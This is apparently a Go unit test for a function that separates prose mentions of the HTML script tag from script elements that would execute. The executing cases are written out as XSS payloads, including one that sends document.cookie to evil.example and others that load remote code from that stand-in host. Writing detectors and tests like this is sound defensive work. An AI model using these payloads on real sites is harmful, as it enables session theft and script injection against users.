package html

import "testing"

func TestInertScriptsAreMentionsThatRunNothing(t *testing.T) {
	for _, c := range []struct {
		s    string
		want bool
	}{
		// mentions: a sentence where a script element would be
		{"why is my <script> tag not executing when i insert it with innerhtml? (scripts inserted that way never run; use createelement instead.)", true},
		{"the <script> tag is used to embed javascript", true},
		{"what's the difference between <script defer> and <script async>?", true},
		{"certain html element (for example <script> and <style>) have bodies that are", true},
		{"for example, `<b>&iexcl;hi!</b> <script>...</script>`", true},
		{`use <script type="module"> for es modules`, true},
		// scripts that act
		{"<script>alert(1)</script>", false},
		{"<script>alert`1`</script>", false},
		{"<script>alert `1`</script>", false},
		{"<script src=//evil.example/x.js></script>", false},
		{"<script>location='//evil.example/'+document.cookie</script>", false},
		{"<script>throw onerror=alert,1</script>", false},
		{"<script>({valueof:alert})+1</script>", false},
		{"<script>x instanceof {[symbol.hasinstance]:alert}</script>", false},
		{"<script type=module>import '//evil.example/x.js'</script>", false},
		{"<script>new image().src='//evil.example'</script>", false},
		{"<script>(alert)(1)</script>", false},
		{"<script>`${alert(1)}`</script>", false},
		{"<script>[1].map(alert)</script>", false},
		{"<script>alert?.(1)</script>", false},
		{"<script xlink:href=x>", false},
		{"<script onload=alert(1)>", false},
		{"no script element here", false},
		{"<scripts> are plural", false},
	} {
		if got := InertScripts(c.s); got != c.want {
			t.Errorf("InertScripts(%q) = %v, want %v", c.s, got, c.want)
		}
	}
}
